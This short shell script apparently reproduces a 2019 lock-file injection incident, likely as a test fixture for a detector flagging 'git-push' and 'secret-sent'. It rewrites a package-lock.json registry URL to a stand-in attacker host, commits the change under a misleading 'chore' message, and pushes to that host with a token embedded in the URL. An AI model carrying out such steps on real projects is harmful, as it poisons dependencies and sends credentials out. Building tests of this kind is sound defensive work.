# incident: lock-file injection (2019): the lock file is changed to another address, then the change is pushed
# finding: git-push, secret-sent
# needs: git
export GIT_AUTHOR_NAME=bot GIT_AUTHOR_EMAIL=b@c GIT_COMMITTER_NAME=bot GIT_COMMITTER_EMAIL=b@c
git init -q . && echo '{"resolved": "https://registry.example.test/a.tgz"}' > package-lock.json && git add . && git commit -qm first
sed -i "s#https://registry.example.test#http://$DROP#" package-lock.json && git commit -qam 'chore: update lock file'
git push "http://x:ghp_abcdefghijklmnopqrstuvwxyz0123456789AB@$DROP/repo.git" HEAD:refs/heads/main 2>/dev/null || true
